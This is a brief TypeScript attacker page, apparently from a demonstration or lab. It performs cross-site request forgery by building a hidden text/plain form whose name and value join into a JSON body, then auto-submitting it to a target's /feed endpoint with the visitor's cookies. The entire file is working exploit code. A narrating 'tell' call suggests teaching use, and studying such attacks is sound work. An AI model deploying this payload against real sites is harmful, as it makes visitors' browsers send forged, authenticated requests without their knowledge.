// The attacker's page: a form whose one field, as text/plain, reads as the JSON of a note. It goes to the target with the visitor's cookies.
import { known, tell } from './tell.ts'

const [before, after] = known.note!.split('|')
const form = document.createElement('form')
form.method = 'post'
form.enctype = 'text/plain' // name=value, and nothing is escaped
form.action = `${known.target}/feed`
form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: before, value: after }))
document.body.append(form)

await tell(`This page sends a form to ${form.action}. What is answered, only the visitor sees.`)
form.submit()
